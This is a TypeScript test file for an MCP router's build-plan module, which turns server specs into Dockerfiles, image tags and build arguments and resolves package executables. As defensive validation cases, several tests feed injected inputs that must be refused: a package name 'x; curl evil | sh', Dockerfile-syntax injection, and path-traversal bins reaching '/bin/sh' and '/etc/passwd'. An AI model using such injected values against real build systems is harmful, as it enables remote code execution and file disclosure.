import { execFileSync, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readlinkSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buildArgsFor, buildContextFor, dockerfileFor, imageTagFor, planHashFor, RESOLVE_BIN_CJS } from './build-plan';
import { InvalidServerSpecError, NothingToRunError } from './runtime.errors';
import type { ServerSpec } from './server-spec';

function npxSpec(overrides: Partial<ServerSpec> = {}): ServerSpec {
  return {
    id: 'srv-1',
    name: 'everything',
    runtime: 'npx',
    package: '@modelcontextprotocol/server-everything@2026.8.31',
    args: ['stdio'],
    transport: 'stdio',
    network: 'none',
    env: {},
    ...overrides,
  };
}

function uvxSpec(overrides: Partial<ServerSpec> = {}): ServerSpec {
  return npxSpec({ name: 'fetch', runtime: 'uvx', package: 'mcp-server-fetch@0.6.2', args: [], ...overrides });
}

/** The argv of each exec-form instruction of a Dockerfile. */
function execForms(dockerfile: string, instruction: string): string[][] {
  return dockerfile
    .split('\n')
    .filter((line) => line.startsWith(`${instruction} [`))
    .map((line) => JSON.parse(line.slice(instruction.length + 1)) as string[]);
}

describe('dockerfileFor', () => {
  it('npx: installs the pinned package globally on node:24-trixie-slim and runs its bin with node, as uid 1000', () => {
    const dockerfile = dockerfileFor(npxSpec())!;
    expect(dockerfile).toMatch(/^FROM node:24-trixie-slim$/m);
    expect(execForms(dockerfile, 'RUN')).toEqual([
      [
        'npm',
        'install',
        '--global',
        '--omit=dev',
        '--no-audit',
        '--no-fund',
        '@modelcontextprotocol/server-everything@2026.8.31',
      ],
      ['node', '/opt/mcp-router/resolve-bin.cjs', '@modelcontextprotocol/server-everything', ''],
    ]);
    expect(dockerfile).toMatch(/^USER 1000:1000$/m);
    expect(execForms(dockerfile, 'ENTRYPOINT')).toEqual([['node', '/opt/mcp-router/server']]);
  });

  it('npx: installs `latest` when no version is given, and passes a chosen bin to the resolver', () => {
    const dockerfile = dockerfileFor(npxSpec({ package: 'some-mcp', bin: 'some-mcp-stdio' }))!;
    expect(execForms(dockerfile, 'RUN')[0]).toContain('some-mcp@latest');
    expect(execForms(dockerfile, 'RUN')[1]).toEqual([
      'node',
      '/opt/mcp-router/resolve-bin.cjs',
      'some-mcp',
      'some-mcp-stdio',
    ]);
  });

  it('keeps arguments and environment out of the image', () => {
    const dockerfile = dockerfileFor(npxSpec({ args: ['--token', 'abc'], env: { API_KEY: 'xyz-secret' } }))!;
    expect(dockerfile).not.toContain('--token');
    expect(dockerfile).not.toContain('xyz-secret');
  });

  it('uvx: Debian Python, a fail-fast index check, uv from the configurable index, the package in a venv', () => {
    const dockerfile = dockerfileFor(uvxSpec())!;
    const lines = dockerfile.split('\n');
    const at = (pattern: RegExp) => lines.findIndex((line) => pattern.test(line));
    expect(dockerfile).toMatch(/^FROM debian:trixie-slim$/m);
    expect(dockerfile).toMatch(/apt-get install -y --no-install-recommends python3 python3-venv ca-certificates/);
    expect(dockerfile).toMatch(/^ENV .*UV_HTTP_TIMEOUT=\d+/m);
    expect(dockerfile).toMatch(/^ENV .*UV_PYTHON_DOWNLOADS=never/m);
    expect(dockerfile).toMatch(/^ENV .*PYTHONUNBUFFERED=1/m);
    expect(dockerfile).toMatch(/^ARG UV_INDEX_URL=https:\/\/pypi\.org\/simple$/m);
    expect(dockerfile).toMatch(/pip install .*--index-url "\$UV_INDEX_URL" uv==\d+\.\d+\.\d+/s);
    expect(at(/check-index\.py"\]$/)).toBeGreaterThan(at(/^ARG UV_INDEX_URL/));
    expect(at(/check-index\.py"\]$/)).toBeLessThan(at(/pip install/));
    expect(execForms(dockerfile, 'RUN')).toContainEqual([
      '/opt/mcp-router/uv/bin/uv',
      'pip',
      'install',
      '--python',
      '/opt/mcp-router/venv/bin/python',
      'mcp-server-fetch==0.6.2',
    ]);
    expect(execForms(dockerfile, 'RUN')).toContainEqual([
      '/opt/mcp-router/venv/bin/python',
      '/opt/mcp-router/link-command.py',
      'mcp-server-fetch',
    ]);
    expect(dockerfile).toMatch(/^USER 1000:1000$/m);
    expect(execForms(dockerfile, 'ENTRYPOINT')).toEqual([['/opt/mcp-router/server']]);
  });

  it('uvx: runs the chosen command instead of the package name', () => {
    expect(execForms(dockerfileFor(uvxSpec({ bin: 'fetch-server' }))!, 'RUN')).toContainEqual([
      '/opt/mcp-router/venv/bin/python',
      '/opt/mcp-router/link-command.py',
      'fetch-server',
    ]);
  });

  it('builds nothing for docker and remote servers', () => {
    expect(dockerfileFor(npxSpec({ runtime: 'docker', image: 'mcp/fetch:1' }))).toBeNull();
    expect(dockerfileFor(npxSpec({ runtime: 'remote', url: 'https://mcp.example.com/mcp' }))).toBeNull();
  });

  it.each([
    ['a package with shell syntax', { package: 'x@1"]\nRUN ["id' }],
    ['a package with a shell command', { package: 'x; curl evil | sh' }],
    ['a bin with a path', { bin: '../../bin/sh' }],
    ['a bad name', { name: 'Everything!' }],
  ])('refuses %s before it reaches a Dockerfile', (_what, overrides) => {
    expect(() => dockerfileFor(npxSpec(overrides))).toThrow(InvalidServerSpecError);
  });
});

describe('imageTagFor', () => {
  it('names npx/uvx images mcp-router/srv-<name>:<12 hex digits>, the same for the same plan', () => {
    const tag = imageTagFor(npxSpec());
    expect(tag).toMatch(/^mcp-router\/srv-everything:[0-9a-f]{12}$/);
    expect(imageTagFor(npxSpec())).toBe(tag);
    expect(
      imageTagFor(npxSpec({ args: ['other'], env: { X: '1' }, limits: { memoryMb: 64 }, network: 'egress' })),
    ).toBe(tag);
  });

  it('changes when what is built changes', () => {
    const tag = imageTagFor(npxSpec());
    expect(imageTagFor(npxSpec({ package: '@modelcontextprotocol/server-everything@2026.1.1' }))).not.toBe(tag);
    expect(imageTagFor(npxSpec({ bin: 'mcp-server-everything' }))).not.toBe(tag);
    expect(planHashFor(uvxSpec())).not.toBe(planHashFor(uvxSpec({ package: 'mcp-server-fetch==0.6.3' })));
  });

  it('treats the two uvx spellings of a pinned package as the same plan', () => {
    expect(imageTagFor(uvxSpec({ package: 'mcp-server-fetch==0.6.2' }))).toBe(imageTagFor(uvxSpec()));
  });

  it('is the given image for docker servers, and refuses remote ones', () => {
    expect(imageTagFor(npxSpec({ runtime: 'docker', image: 'ghcr.io/org/srv:1.0' }))).toBe('ghcr.io/org/srv:1.0');
    expect(() => imageTagFor(npxSpec({ runtime: 'remote', url: 'https://x.example/mcp' }))).toThrow(NothingToRunError);
  });
});

describe('buildArgsFor', () => {
  it('passes the Python index to uvx builds only, PyPI by default', () => {
    expect(buildArgsFor(uvxSpec(), {})).toEqual({ UV_INDEX_URL: 'https://pypi.org/simple' });
    expect(buildArgsFor(uvxSpec(), { pythonIndexUrl: 'http://mirror:3141/simple' })).toEqual({
      UV_INDEX_URL: 'http://mirror:3141/simple',
    });
    expect(buildArgsFor(npxSpec(), { pythonIndexUrl: 'http://mirror/simple' })).toEqual({});
  });
});

describe('resolve-bin.cjs (npx build helper)', () => {
  let dir: string;

  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'mcpr-resolve-bin-'));
    mkdirSync(join(dir, 'opt'));
    writeFileSync(join(dir, 'opt', 'resolve-bin.cjs'), RESOLVE_BIN_CJS);
  });

  afterEach(() => {
    rmSync(dir, { recursive: true, force: true });
  });

  function install(name: string, bin: unknown, files: Record<string, string>): void {
    const root = join(dir, 'lib', name);
    mkdirSync(root, { recursive: true });
    writeFileSync(join(root, 'package.json'), JSON.stringify({ name, version: '1.2.3', bin }));
    for (const [file, text] of Object.entries(files)) {
      mkdirSync(join(root, file, '..'), { recursive: true });
      writeFileSync(join(root, file), text);
    }
  }

  function resolve(name: string, wanted = '') {
    return spawnSync(process.execPath, [join(dir, 'opt', 'resolve-bin.cjs'), name, wanted, join(dir, 'lib')], {
      encoding: 'utf8',
    });
  }

  it('links the only executable of a package and names the installed version', () => {
    install('@scope/srv', { 'srv-cli': 'dist/index.js' }, { 'dist/index.js': '#!/usr/bin/env node\n' });
    const result = resolve('@scope/srv');
    expect(result.status).toBe(0);
    expect(result.stdout).toContain('@scope/srv@1.2.3 runs "srv-cli"');
    expect(readlinkSync(join(dir, 'opt', 'server'))).toBe(join(dir, 'lib', '@scope/srv', 'dist/index.js'));
  });

  it('picks the executable named like the package among several, as npx does, or the one asked for', () => {
    install('@scope/srv', { other: 'a.js', srv: 'b.js' }, { 'a.js': '', 'b.js': '' });
    expect(resolve('@scope/srv').status).toBe(0);
    expect(readlinkSync(join(dir, 'opt', 'server'))).toMatch(/b\.js$/);
    rmSync(join(dir, 'opt', 'server'));
    expect(resolve('@scope/srv', 'other').status).toBe(0);
    expect(readlinkSync(join(dir, 'opt', 'server'))).toMatch(/a\.js$/);
  });

  it.each([
    ['several executables and none chosen', { a: 'a.js', b: 'b.js' }, '', /several executables \(a, b\)/],
    ['an unknown executable', { a: 'a.js' }, 'zzz', /no executable "zzz"; it has: a/],
    ['no executable at all', undefined, '', /has no executable/],
    ['an executable outside the package', { a: '../../../etc/passwd' }, '', /not a file inside the package/],
    ['a shell-script executable', { a: 'run.sh' }, '', /not a Node\.js script/],
  ])('fails the build with a clear message for %s', (_what, bin, wanted, message) => {
    install('pkg', bin, { 'a.js': '', 'b.js': '', 'run.sh': '#!/bin/sh\nexec true\n' });
    const result = resolve('pkg', wanted);
    expect(result.status).toBe(1);
    expect(result.stderr).toMatch(/^mcp-router: /);
    expect(result.stderr).toMatch(message);
  });

  it('is valid JavaScript', () => {
    expect(() => execFileSync(process.execPath, ['--check', join(dir, 'opt', 'resolve-bin.cjs')])).not.toThrow();
  });
});

describe('buildContextFor', () => {
  it('ships the helpers each Dockerfile copies', () => {
    expect(Object.keys(buildContextFor(npxSpec())!.files)).toEqual(['resolve-bin.cjs']);
    expect(Object.keys(buildContextFor(uvxSpec())!.files).sort()).toEqual(['check-index.py', 'link-command.py']);
  });
});
